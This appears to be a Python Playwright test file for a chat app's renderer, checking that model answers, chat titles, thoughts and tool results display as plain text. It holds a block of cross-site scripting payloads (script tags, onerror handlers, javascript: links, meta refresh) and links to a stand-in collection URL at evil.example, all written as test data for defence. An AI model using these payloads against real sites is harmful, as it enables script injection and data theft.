"""What a model, a page or a title says is shown, never obeyed: no request, no markup, no script."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from searchloop.render.markdown import render
from tests.browser.conftest import Enter
from tests.browser.house import LOCAL, House, LedOllama, called
from tests.browser.steps import asked, chat_of, choose_model, told

EVIL = "https://evil.example/collect?secret=1"
HOSTILE = f"""\
# Results ![tracker]({EVIL})

<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>
<iframe src="{EVIL}"></iframe><style>@import url({EVIL});</style>
<svg onload="window.hacked = 1"><a href="javascript:window.hacked=1">x</a></svg>

[click me](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[plain link]({EVIL}) <{EVIL}> {EVIL} [![image link]({EVIL})]({EVIL}) ![ref][r]

[r]: {EVIL}
[![both](//evil.example/a.png)](//evil.example/b) ![file](file:///etc/passwd) [blob](blob:{EVIL})

| a | ![cell]({EVIL}) |
|---|---|
| <b onclick="window.hacked=1">b</b> | [x](vbscript:msgbox) |

```html
<script>window.hacked = 1</script>
```

1. <input autofocus onfocus="window.hacked=1">
   > <details open ontoggle="window.hacked=1"><summary>s</summary></details>

Cited [1] and [99] and 【7†source】. \u202eevil\u202c
<base href="{EVIL}"><meta http-equiv="refresh" content="0;url={EVIL}"><form action="{EVIL}">
"""
FORBIDDEN = (
    "img, iframe, script, style, object, embed, form, input, base, meta, svg a, [onload], [style]"
)
PAYLOADS = (
    '<img src=x onerror="window.hacked=1">',
    '"><script>window.hacked=1</script>',
    "javascript:window.hacked=1",
    "{{constructor.constructor('window.hacked=1')()}}",
    "\u202e<b>txt.exe",
)


@pytest.fixture
def chatting(page: Page) -> Iterator[Page]:
    """A page with the local model chosen; afterwards nothing of an answer may have run."""
    choose_model(page, LOCAL)
    yield page
    assert page.evaluate("window.hacked") is None


def touch_everything(page: Page) -> None:
    """Hovers over, focuses and clicks whatever the answer put on the page."""
    page.evaluate(
        """() => {
          for (const node of document.querySelectorAll(".answer *")) {
            for (const kind of ["mouseover", "mouseenter", "focus", "toggle", "pointerenter"])
              node.dispatchEvent(new Event(kind, { bubbles: true }));
            node.focus?.();
            if (!node.closest("a[target=_blank]")) node.click?.();
          }
        }"""
    )


def test_hostile_markdown_loads_and_runs_nothing(chatting: Page, ollama: LedOllama) -> None:
    """However the stream is cut: no request to anybody, no element that could make one, whatever is
    done to it."""
    for size in (1, len(HOSTILE)):
        pieces = [HOSTILE[i : i + size] for i in range(0, len(HOSTILE), size)]
        answer = told(chatting, ollama, "Show me", *pieces).locator(".answer")
        expect(answer).to_contain_text("evil.example")
        assert answer.locator(FORBIDDEN).count() == 0
        assert answer.locator("a").count() == 0, "a link that is no source's"
        expect(answer.locator("code").last).to_contain_text("<script>")
        touch_everything(chatting)
        assert not re.search(r"\d", "".join(answer.locator("a.chip").all_inner_texts()))


DRAW_ALL = """async ([blocks, forbidden]) => {
  const { render } = await import("/static/lib/dom.js");
  const place = document.body.appendChild(document.createElement("div"));
  return blocks.flatMap((block) => {
    place.replaceChildren(render(block, (n) => document.createTextNode(n)));
    return [...place.querySelectorAll(forbidden)].map((node) => node.outerHTML);
  });
}"""


def test_no_cut_of_the_stream_asks_anybody_for_anything(enter: Enter, house: House) -> None:
    """Each beginning of the text is drawn; a request, had the policy let it pass, would be seen."""
    page = enter(bypass_csp=True)
    cuts = [render(HOSTILE[:end]) for end in range(len(HOSTILE) + 1)]
    drawn = {json.dumps(block): block for blocks in cuts for block in blocks}
    assert page.evaluate(DRAW_ALL, [[*drawn.values()], f"{FORBIDDEN}, a"]) == []
    assert page.evaluate("window.hacked") is None


def test_hostile_words_in_questions_and_titles_are_words(
    chatting: Page, house: House, ollama: LedOllama
) -> None:
    """In the bubble, the heading, the list of chats and its buttons."""
    for payload in PAYLOADS:
        turn = told(chatting, ollama, payload, "Noted.")
        expect(turn.locator(".bubble")).to_have_text(payload)
    chat = chat_of(chatting)
    for payload in PAYLOADS[:4]:
        house.call("PATCH", f"/api/sessions/{chat}", {"title": payload})
        chatting.reload()
        expect(chatting.locator("#title")).to_have_text(payload)
        expect(chatting.locator(f'.session[data-id="{chat}"] a')).to_have_text(payload)
        assert chatting.locator("#sidebar").locator(FORBIDDEN.replace("input, ", "")).count() == 0


def test_thoughts_and_tool_results_are_words_too(chatting: Page, ollama: LedOllama) -> None:
    """The folded parts are no way in either."""
    bad = called("<img src=x onerror=window.hacked=1>", a=HOSTILE)
    ollama.script = lambda messages: (
        ["Done."] if messages[-1]["role"] == "tool" else [{"thinking": HOSTILE}, *bad]
    )
    turn = asked(chatting, "Think")
    for summary in turn.locator("summary:visible").all():
        summary.click()
    expect(turn.locator(".thoughts-text")).to_contain_text("<script>")
    assert turn.locator(FORBIDDEN).count() == 0
    touch_everything(chatting)
